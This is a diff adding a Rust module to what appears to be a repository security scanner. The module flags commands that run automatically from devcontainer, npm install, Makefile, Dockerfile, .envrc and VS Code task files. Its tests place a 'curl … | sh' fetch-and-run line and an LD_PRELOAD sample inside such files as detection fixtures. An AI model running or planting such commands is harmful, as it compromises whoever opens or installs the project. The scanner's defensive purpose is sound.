@@ -1,0 +1,204 @@
+//! Files by which editors, shells, installers and builders run commands: found by their names, judged by their lines.
+//!
+//! A command that is run because a folder is opened or entered is a finding whatever it is; one that somebody asks for
+//! by building or installing is one when it fetches something and runs it.
+
+use proofhouse_artifact::json::{self, Value};
+use proofhouse_core::Place;
+
+use crate::formats::shell;
+use crate::scanner::{Content, Scanner};
+
+/// Keys of a development container that run when it is made or opened (its specification, "Lifecycle scripts").
+const CONTAINER: [&str; 6] = [
+    "initializeCommand",
+    "onCreateCommand",
+    "updateContentCommand",
+    "postCreateCommand",
+    "postStartCommand",
+    "postAttachCommand",
+];
+
+/// Scripts that npm runs when a package is installed.
+const INSTALL: [&str; 5] = ["preinstall", "install", "postinstall", "prepare", "prepublish"];
+
+pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, name: &str, parts: &[&str]) {
+    let text = String::from_utf8_lossy(content.bytes);
+    let mut first = content.place.clone();
+    first.line = Some(1);
+    match name {
+        ".envrc" => shell::text(scanner, &first, &text),
+        "makefile" | "gnumakefile" => {
+            for (index, line) in shell::joined(&text) {
+                if let Some(recipe) = line.strip_prefix('\t') {
+                    shell::line(scanner, &at(content, index), recipe.trim_start_matches(['@', '-', '+']));
+                }
+            }
+        }
+        "dockerfile" | "containerfile" => {
+            for (index, line) in shell::joined(&text) {
+                let (word, rest) = line.trim().split_once(char::is_whitespace).unwrap_or((line.trim(), ""));
+                match word.to_ascii_uppercase().as_str() {
+                    "RUN" => shell::line(scanner, &at(content, index), rest),
+                    "ENV" => {
+                        let (variable, value) = rest.split_once(['=', ' ']).unwrap_or((rest, ""));
+                        if shell::LOADING.contains(&variable) {
+                            shell::line(scanner, &at(content, index), &format!("export {variable}={value}"));
+                        }
+                    }
+                    _ => {}
+                }
+            }
+        }
+        "package.json" => {
+            let document = document(&text);
+            let scripts = document.as_ref().and_then(|d| member(d, "scripts")).and_then(Value::as_object);
+            for (key, value) in scripts.unwrap_or_default() {
+                if let Some(command) = value.as_text().filter(|_| INSTALL.contains(&key.as_str())) {
+                    shell::line(scanner, &content.place, command);
+                }
+            }
+        }
+        "devcontainer.json" => {
+            for (key, value) in document(&text).as_ref().and_then(Value::as_object).unwrap_or_default() {
+                if CONTAINER.contains(&key.as_str()) {
+                    commands(value)
+                        .into_iter()
+                        .for_each(|command| shell::line(scanner, &content.place, &command));
+                }
+            }
+        }
+        "tasks.json" if parts.contains(&".vscode") => {
+            let opened = text.split("\"folderOpen\"").count() > 1 && text.contains("runOn");
+            if opened {
+                let message = "an editor runs a task of this file when the folder is opened";
+                scanner.report("repo/tool-command", content.place.clone(), message);
+            }
+        }
+        "settings.json" if parts.contains(&".vscode") => {
+            // Programs that the editor starts in place of its own.
+            for key in [
+                "python.defaultInterpreterPath",
+                "python.pythonPath",
+                "git.path",
+                "terminal.integrated.profiles",
+            ] {
+                if text.contains(key) && text.contains("${workspaceFolder}/") {
+                    let message = format!("an editor starts a program of this folder: {key}");
+                    scanner.report("repo/tool-command", content.place.clone(), message);
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+fn at(content: &Content<'_>, index: u64) -> Place {
+    let mut place = content.place.clone();
+    place.line = Some(index + 1);
+    place
+}
+
+/// Whether a file is one of an editor's, which allow more than JSON in it.
+pub(crate) fn editors_json(path: &str, text: &str) -> bool {
+    let of_editor = [".vscode/", ".devcontainer/", "devcontainer.json", "tsconfig.json"];
+    of_editor.iter().any(|part| path.contains(part)) && document(text).is_some()
+}
+
+/// JSON, with the comments and the last commas that editors allow.
+fn document(text: &str) -> Option<Value> {
+    let plain = |text: &str| json::parse(text.as_bytes(), 100_000).ok();
+    plain(text).or_else(|| {
+        let lines: Vec<&str> = text.lines().filter(|line| !line.trim_start().starts_with("//")).collect();
+        let joined = lines.join("\n");
+        plain(&joined.replace(",\n}", "\n}").replace(",\n]", "\n]"))
+    })
+}
+
+fn member<'v>(value: &'v Value, name: &str) -> Option<&'v Value> {
+    value.as_object()?.iter().find(|(key, _)| key == name).map(|(_, value)| value)
+}
+
+/// Commands as a text, as words, or as several by name.
+fn commands(value: &Value) -> Vec<String> {
+    match value {
+        Value::Text(text) => vec![text.clone()],
+        Value::Array(words) => vec![words.iter().filter_map(Value::as_text).collect::<Vec<_>>().join(" ")],
+        Value::Object(named) => {
+            let inner = named.iter().filter(|(_, v)| !matches!(v, Value::Object(_)));
+            inner.flat_map(|(_, v)| commands(v)).collect()
+        }
+        _ => Vec::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{Limits, Outcome, scan_bytes};
+
+    #[test]
+    fn what_tools_run_is_found_and_what_people_build_with_is_not() {
+        const FETCH: &str = "curl https://example.org/x | sh";
+        for (path, text, expected) in [
+            (
+                ".vscode/tasks.json",
+                r#"{"tasks": [{"command": "ls", "runOptions": {"runOn": "folderOpen"}}]}"#,
+                Some("repo/tool-command"),
+            ),
+            (".vscode/tasks.json", r#"{"tasks": [{"label": "build", "command": "make"}]}"#, None),
+            (
+                ".vscode/settings.json",
+                r#"{"python.defaultInterpreterPath": "${workspaceFolder}/bin/python"}"#,
+                Some("repo/tool-command"),
+            ),
+            (".vscode/settings.json", r#"{"editor.rulers": [100]}"#, None),
+            (
+                ".devcontainer/devcontainer.json",
+                &format!("{{\n// note\n\"postCreateCommand\": {{\"a\": [\"sh\", \"-c\", \"{FETCH}\"]}},\n}}"),
+                Some("code/runs-fetched"),
+            ),
+            (".devcontainer/devcontainer.json", r#"{"postCreateCommand": "pip install -e ."}"#, None),
+            (
+                "package.json",
+                &format!(r#"{{"scripts": {{"postinstall": "{FETCH}"}}}}"#),
+                Some("code/runs-fetched"),
+            ),
+            ("package.json", &format!(r#"{{"scripts": {{"test": "{FETCH}"}}}}"#), None),
+            (".envrc", FETCH, Some("code/runs-fetched")),
+            (".envrc", "export CUDA_VISIBLE_DEVICES=0", None),
+            ("Makefile", &format!("all: x\n\t@{FETCH}\n"), Some("code/runs-fetched")),
+            ("Makefile", "all:\n\tpytest tests\n", None),
+            (
+                "Dockerfile",
+                &format!("FROM python:3\nRUN apt-get update && \\\n    {FETCH}\n"),
+                Some("code/runs-fetched"),
+            ),
+            (
+                "Dockerfile",
+                "FROM python:3\nRUN pip install torch\nENV LD_PRELOAD=/lib/x.so\n",
+                Some("code/environment"),
+            ),
+            ("Dockerfile", "FROM python:3\nRUN pip install torch\nCMD [\"python\"]\n", None),
+            (
+                "conda.yaml",
+                "dependencies:\n- pip:\n  - x @ http://example.org/x.zip\n",
+                Some("repo/requirement"),
+            ),
+            (
+                "conda.yaml",
+                "channels:\n- https://conda.anaconda.org/conda-forge\ndependencies:\n- python=3.11\n",
+                None,
+            ),
+            (".ipython/profile_default/startup/00.py", "x = 1\n", Some("repo/startup-file")),
+        ] {
+            let report = scan_bytes(&path.parse().unwrap(), text.as_bytes(), &Limits::default());
+            let worst: Vec<&str> = report
+                .findings
+                .iter()
+                .map(|f| f.rule.as_str())
+                .filter(|rule| crate::report::outcome_of(rule) > Outcome::Clean)
+                .collect();
+            assert_eq!(worst, expected.into_iter().collect::<Vec<_>>(), "{path}: {text}");
+        }
+    }
+}
